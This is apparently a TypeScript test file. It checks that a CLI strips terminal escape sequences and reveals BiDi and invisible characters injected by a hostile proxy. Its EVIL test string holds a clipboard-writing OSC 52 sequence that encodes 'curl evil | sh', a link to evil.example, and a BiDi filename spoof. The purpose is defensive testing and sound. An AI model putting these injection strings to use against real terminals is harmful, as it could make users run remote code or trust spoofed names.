// Server strings that could reach the terminal raw: channel ids (`wsc channels`), doc ids
// (`wsc doc list`), a command's risk (`wsc action list`), and a task's ref and status. A hostile
// service (a real proxy in front of the local service) puts clear-screen, OSC 52, OSC 8, DCS and C1
// sequences plus BiDi and invisible characters into exactly those fields. The output must carry no
// escape and show the BiDi/invisible characters as <U+XXXX>.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator, type TestEmulator } from '../support/emulator';
import { startHostileProxy, type HostileProxy } from '../support/hostile-proxy';
import { cliEnv, hasTerminalControls, makeHome, runWsc, type RunResult } from './run-wsc';

const TOKEN = 'hpt_member_rw';
/** Clear screen, OSC 52 clipboard write, OSC 8 link, DCS, 8-bit CSI, BiDi override, zero-width space. */
const EVIL = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example\x07L\x1b]8;;\x07\x1bPq#0\x1b\\\u009b31m\u202Etxt.exe\u200B';
const HOSTILE_FIELDS: Record<string, readonly string[]> = {
  '/api/v1/channels': ['id'],
  '/api/v1/docs': ['id'],
  '/api/v1/actions/list_capabilities': ['risk'],
  '/api/v1/tasks': ['ref', 'status'],
};

/** Appends EVIL to every `fields` string anywhere in the answer. */
function poison(value: unknown, fields: readonly string[]): unknown {
  if (Array.isArray(value)) return value.map((v) => poison(v, fields));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([k, v]) => [k, fields.includes(k) && typeof v === 'string' ? `${v}${EVIL}` : poison(v, fields)]),
  );
}

let emu: TestEmulator;
let proxy: HostileProxy;

beforeAll(async () => {
  emu = await startEmulator();
  proxy = await startHostileProxy(emu.url, (path, body) => {
    const fields = HOSTILE_FIELDS[path];
    return fields ? poison(body, fields) : body;
  });
}, 60_000);

afterAll(async () => {
  await proxy.stop();
  await emu.stop();
});

const run = (args: string[]) => runWsc(args, { env: cliEnv(makeHome(), { url: proxy.url, token: TOKEN }), timeoutMs: 30_000 });

function expectInertAndRevealed(r: RunResult): void {
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  expect(hasTerminalControls(r.stdout)).toBe(false);
  expect(r.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
  expect(r.stdout).toContain('<U+202E>txt.exe<U+200B>');
}

describe('server strings in list output', () => {
  it.each([
    ['channels (ids)', ['channels']],
    ['doc list (ids)', ['doc', 'list']],
    ['action list (risk)', ['action', 'list']],
    ['task list (ref, status)', ['task', 'list']],
  ])('wsc %s prints no escape and shows BiDi/invisible characters as <U+…>', async (_name, args) => {
    expectInertAndRevealed(await run(args));
  });

  it('--json keeps the exact value, with every control, BiDi and invisible character escaped', async () => {
    const r = await run(['channels', '--json']);
    expect(r.code).toBe(0);
    expect(hasTerminalControls(r.stdout)).toBe(false);
    expect(r.stdout).not.toMatch(/[\u202a-\u202e\u200b-\u200f]/);
    expect(r.stdout).toContain('\\u202e');
    const parsed = JSON.parse(r.stdout) as Array<{ id: string }> | { channels: Array<{ id: string }> };
    const channels = Array.isArray(parsed) ? parsed : parsed.channels;
    expect(channels[0]?.id.endsWith(EVIL)).toBe(true);
  });
});
